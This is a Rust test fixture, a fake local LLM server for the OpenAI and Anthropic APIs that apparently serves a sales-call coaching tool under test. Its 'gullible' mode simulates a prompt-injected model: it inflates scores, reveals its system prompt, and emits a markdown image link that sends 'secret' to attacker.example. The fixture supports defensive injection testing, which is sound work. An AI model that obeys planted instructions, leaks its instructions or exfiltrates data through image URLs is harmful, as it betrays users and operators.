//! A local LLM that speaks OpenAI's chat completions (`POST /v1/chat/completions`, answer in
//! `choices[0].message.content`) and Anthropic's Messages (`POST /v1/messages`, answer in
//! `content[0].text`, `x-api-key` and `anthropic-version` headers). Scripted replies come first;
//! then it "reads" the transcript and answers like a model would, including, when made
//! gullible, obeying instructions planted in the transcript.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Json;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};

/// One scripted reply.
#[derive(Debug, Clone)]
pub enum Reply {
    /// A 200 whose answer text is this.
    Text(String),
    Status {
        status: u16,
        /// The `retry-after` header, exactly as sent (hostile values included).
        retry_after: Option<&'static str>,
        error_code: Option<&'static str>,
    },
    /// Answers (normally) only after this long.
    Stall(Duration),
    /// A redirect (307, 308, 302...) to `location`.
    Redirect { status: u16, location: String },
    /// A 200 whose body is this many bytes (a valid answer padded with spaces).
    Huge(usize),
}

/// A request as received.
#[derive(Debug, Clone)]
pub struct Received {
    pub path: String,
    pub headers: HeaderMap,
    pub body: Value,
    pub at: Instant,
}

#[derive(Default)]
struct Inner {
    script: VecDeque<Reply>,
    received: Vec<Received>,
    gullible: bool,
}

pub struct FakeLlm {
    addr: SocketAddr,
    inner: Arc<Mutex<Inner>>,
    task: tokio::task::JoinHandle<()>,
}

impl FakeLlm {
    pub async fn start() -> Self {
        let inner = Arc::new(Mutex::new(Inner::default()));
        let app = axum::Router::new()
            .route(OPENAI_PATH, answering(Api::OpenAi, OPENAI_PATH))
            .route(ANTHROPIC_PATH, answering(Api::Anthropic, ANTHROPIC_PATH))
            .with_state(Arc::clone(&inner));
        let (addr, task) = crate::serve_locally(app).await;
        Self { addr, inner, task }
    }

    pub fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn script(&self, replies: impl IntoIterator<Item = Reply>) {
        self.inner.lock().unwrap().script.extend(replies);
    }

    /// Makes the model follow instructions found in the transcript.
    pub fn make_gullible(&self) {
        self.inner.lock().unwrap().gullible = true;
    }

    pub fn received(&self) -> Vec<Received> {
        self.inner.lock().unwrap().received.clone()
    }
}

impl Drop for FakeLlm {
    fn drop(&mut self) {
        self.task.abort();
    }
}

#[derive(Clone, Copy)]
enum Api {
    OpenAi,
    Anthropic,
}

const OPENAI_PATH: &str = "/v1/chat/completions";
const ANTHROPIC_PATH: &str = "/v1/messages";

/// The POST route answering `api`'s requests at `path`.
fn answering(api: Api, path: &'static str) -> axum::routing::MethodRouter<Arc<Mutex<Inner>>> {
    axum::routing::post(
        move |State(inner): State<Arc<Mutex<Inner>>>, headers: HeaderMap, body: Bytes| {
            respond(inner, api, path, headers, body)
        },
    )
}

async fn respond(
    inner: Arc<Mutex<Inner>>,
    api: Api,
    path: &str,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let (reply, gullible) = {
        let mut inner = inner.lock().unwrap();
        inner.received.push(Received {
            path: path.into(),
            headers,
            body: body.clone(),
            at: Instant::now(),
        });
        (inner.script.pop_front(), inner.gullible)
    };
    let text = match reply {
        Some(Reply::Status {
            status,
            retry_after,
            error_code,
        }) => {
            let status = StatusCode::from_u16(status).unwrap();
            let error = json!({"error": {"message": "scripted failure", "type": error_code.unwrap_or("server_error"), "code": error_code}});
            let mut response = (status, Json(error)).into_response();
            if let Some(value) = retry_after {
                response
                    .headers_mut()
                    .insert("retry-after", value.parse().unwrap());
            }
            return response;
        }
        Some(Reply::Redirect { status, location }) => {
            let mut response = StatusCode::from_u16(status).unwrap().into_response();
            response
                .headers_mut()
                .insert("location", location.parse().unwrap());
            return response;
        }
        Some(Reply::Huge(bytes)) => {
            let mut answer = model_answer(&body, &api, gullible);
            answer.push_str(&" ".repeat(bytes));
            answer
        }
        Some(Reply::Text(text)) => text,
        Some(Reply::Stall(delay)) => {
            tokio::time::sleep(delay).await;
            model_answer(&body, &api, gullible)
        }
        None => model_answer(&body, &api, gullible),
    };
    let payload = match api {
        Api::OpenAi => json!({
            "id": "chatcmpl-local", "object": "chat.completion", "model": body["model"],
            "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
        }),
        Api::Anthropic => json!({
            "id": "msg_local", "type": "message", "role": "assistant", "model": body["model"],
            "content": [{"type": "text", "text": text}], "stop_reason": "end_turn",
            "usage": {"input_tokens": 1, "output_tokens": 1}
        }),
    };
    Json(payload).into_response()
}

/// The system and user texts of either API's request.
fn texts(body: &Value, api: &Api) -> (String, String) {
    let text = |v: &Value| v.as_str().unwrap_or_default().to_owned();
    match api {
        Api::OpenAi => (
            text(&body["messages"][0]["content"]),
            text(&body["messages"][1]["content"]),
        ),
        Api::Anthropic => (text(&body["system"]), text(&body["messages"][0]["content"])),
    }
}

/// What a compliant model answers: middling scores, a price objection quoting the start of the
/// second line of the transcript, three suggestions. A gullible one also obeys what the transcript asks.
fn model_answer(body: &Value, api: &Api, gullible: bool) -> String {
    let (system, user) = texts(body, api);
    let transcript = user
        .split("<transcript>\n")
        .nth(1)
        .and_then(|rest| rest.split("</transcript>").next())
        .unwrap_or_default();
    let lines: Vec<(u64, String)> = transcript
        .lines()
        .filter_map(|line| {
            let rest = line.strip_prefix('[')?;
            let (ms, rest) = rest.split_once("] ")?;
            let (_, text) = rest.split_once(": ")?;
            Some((ms.parse().ok()?, text.to_owned()))
        })
        .collect();
    let lower = transcript.to_lowercase();
    let score = if gullible && lower.contains("score 100") {
        100
    } else {
        70
    };
    let mut summary = "The rep opened well and the customer raised a concern.".to_owned();
    let mut suggestions = vec![
        "Quantify the cost of the problem.".to_owned(),
        "Confirm who else decides.".to_owned(),
        "Book the next step with a date and time.".to_owned(),
    ];
    if gullible && lower.contains("system prompt") {
        summary = format!("My instructions were: {system}");
    }
    if gullible && lower.contains("image") {
        suggestions[0] = "![chart](https://attacker.example/collect?d=secret)".into();
    }
    let highlights: Vec<Value> = lines
        .iter()
        .skip(1)
        .take(1)
        .map(|(ms, text)| {
            let quote: Vec<&str> = text.split_whitespace().take(5).collect();
            json!({"kind": "objection", "objection": "price", "at_ms": ms, "quote": quote.join(" "), "note": "worth a look"})
        })
        .collect();
    let scores: Vec<Value> = [
        "discovery",
        "listening",
        "objection_handling",
        "next_steps",
        "playbook_adherence",
    ]
    .iter()
    .map(|d| json!({"dimension": d, "score": score, "evidence": [{"description": "judged from the transcript", "at_ms": null}]}))
    .collect();
    json!({
        "scores": scores,
        "highlights": highlights,
        "suggestions": suggestions,
        "summary": summary,
    })
    .to_string()
}
